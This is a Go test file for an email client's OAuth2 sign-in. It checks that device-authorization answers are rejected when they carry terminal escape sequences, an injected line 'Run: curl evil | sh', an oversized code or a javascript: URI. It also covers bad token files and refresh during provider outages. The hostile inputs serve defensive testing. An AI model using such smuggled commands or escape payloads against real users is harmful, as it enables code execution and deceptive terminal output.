package accounts

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/letterbox-mail/letterbox/internal/testidp"
	lbsync "github.com/letterbox-mail/letterbox/sync"
)

// TestOAuth2DeviceAnswerChecked: the device authorization answer is
// shown to the user, so a provider's answer whose user code or URL
// holds terminal control sequences (or is absurdly long) is refused
// before anything is printed, never shown raw.
func TestOAuth2DeviceAnswerChecked(t *testing.T) {
	for _, tc := range []struct {
		name     string
		answer   map[string]any
		wantFail bool
	}{
		{"good", map[string]any{"user_code": "WDJB-MJHT", "verification_uri": "https://idp.example/device",
			"verification_uri_complete": "https://idp.example/device?user_code=WDJB-MJHT"}, false},
		{"escape in the user code", map[string]any{"user_code": "\x1b]0;owned\x07\x1b[2J", "verification_uri": "https://idp.example/device"}, true},
		{"newline in the user code", map[string]any{"user_code": "AB\nRun: curl evil | sh", "verification_uri": "https://idp.example/device"}, true},
		{"long user code", map[string]any{"user_code": strings.Repeat("A", 1000), "verification_uri": "https://idp.example/device"}, true},
		{"complete URI not https", map[string]any{"user_code": "WDJB", "verification_uri": "https://idp.example/device",
			"verification_uri_complete": "javascript:alert(1)"}, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "application/json")
				if r.URL.Path == "/device" {
					m := map[string]any{"device_code": "dc", "expires_in": 600, "interval": 1}
					for k, v := range tc.answer {
						m[k] = v
					}
					json.NewEncoder(w).Encode(m)
					return
				}
				// The token endpoint: the user never approves.
				w.WriteHeader(http.StatusBadRequest)
				w.Write([]byte(`{"error":"access_denied"}`))
			}))
			defer srv.Close()
			acct := AccountConfig{Name: "work", Email: "ann@example.com", Auth: AuthOAuth2, OAuth2Settings: OAuth2Settings{
				OAuth2Provider: ProviderCustom, OAuth2ClientID: "c", OAuth2TokenURL: srv.URL + "/token", OAuth2DeviceURL: srv.URL + "/device",
				OAuth2Scopes: []string{"mail"}}}
			var shown []SignInPrompt
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()
			_, err := SignIn(ctx, acct, SignInOptions{Flow: FlowDevice, HTTP: srv.Client(), Prompt: func(p SignInPrompt) { shown = append(shown, p) }})
			if !errors.Is(err, ErrSignIn) {
				t.Fatalf("sign-in: %v", err)
			}
			if tc.wantFail {
				if len(shown) != 0 || !strings.Contains(err.Error(), "device authorization answer") {
					t.Fatalf("a bad answer was shown (%q) or not explained: %v", shown, err)
				}
				if strings.ContainsAny(err.Error(), "\x1b\x07\n") {
					t.Fatalf("the error holds control characters: %q", err)
				}
			} else if len(shown) != 1 || !strings.Contains(err.Error(), "refused") {
				t.Fatalf("good answer: shown %v, err %v", shown, err)
			}
		})
	}
}

// TestOAuth2BadTokenFile: a token file that cannot be read (damaged,
// emptied) is an Auth error that says to sign in again, which replaces
// it; a token file others may read is refused the same way.
func TestOAuth2BadTokenFile(t *testing.T) {
	ctx := context.Background()
	for _, tc := range []struct {
		name    string
		content string
		mode    os.FileMode
		want    string
	}{
		{"damaged", `{"refresh_tok`, 0o600, "not a token file"},
		{"empty token", `{"refresh_token":""}`, 0o600, "holds no refresh token"},
		{"readable by others", `{"refresh_token":"rt-1"}`, 0o644, "others can read or write it"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			ts := tokenStore{secrets: &Secrets{Keyring: &fakeKeyring{}}, name: "work", dir: dir}
			if err := os.WriteFile(ts.file(), []byte(tc.content), tc.mode); err != nil {
				t.Fatal(err)
			}
			os.Chmod(ts.file(), tc.mode)
			_, _, err := ts.load(ctx)
			if !errors.Is(err, lbsync.ErrAuth) || !strings.Contains(err.Error(), tc.want) ||
				!strings.Contains(err.Error(), "run `letterbox account auth work`") {
				t.Fatalf("load: %v (kind %v)", err, lbsync.KindOf(err))
			}
			// Signing in again replaces the file (no keyring here).
			ts.secrets = &Secrets{Keyring: &fakeKeyring{err: errors.New("no keyring")}}
			if _, err := ts.save(ctx, "rt-new", true); err != nil {
				t.Fatal(err)
			}
			if tok, _, err := ts.load(ctx); err != nil || tok != "rt-new" {
				t.Fatalf("after a new sign-in: %q %v", tok, err)
			}
		})
	}
}

// TestOAuth2RefreshEarlyFails: the refresh ahead of expiry fails while
// the provider is down; the access token, not yet expired, is used
// meanwhile, and once it has expired the failure is reported.
func TestOAuth2RefreshEarlyFails(t *testing.T) {
	e := newOAuthEnv(t, "jwks", testidp.Options{AccessTTL: time.Minute})
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	o := e.addOptions("work", false)
	o.SignIn = SignInOptions{Flow: FlowDevice}
	approved := e.approveNext(ctx)
	acct, err := AddAccount(ctx, o)
	if err != nil {
		t.Fatal(err)
	}
	<-approved
	clock := &offsetClock{}
	src, err := newOAuthSource(acct, acct.DataDir(o.DataDir), sourceOptions{Secrets: o.Secrets, Now: clock.Now})
	if err != nil {
		t.Fatal(err)
	}
	first, err := src.Token(ctx)
	if err != nil {
		t.Fatal(err)
	}
	e.idp.SetFault(testidp.FaultDown, true)
	defer e.idp.SetFault(testidp.FaultDown, false)
	clock.Advance(50 * time.Second) // within the refresh margin, not expired
	if tok, err := src.Token(ctx); err != nil || tok != first {
		t.Fatalf("refresh ahead of expiry with the provider down: %v (same token: %v)", err, tok == first)
	}
	clock.Advance(20 * time.Second) // expired now
	if _, err := src.Token(ctx); !lbsync.IsTemporary(err) || !strings.Contains(err.Error(), "cannot be reached") {
		t.Fatalf("expired token, provider down: %v", err)
	}
}
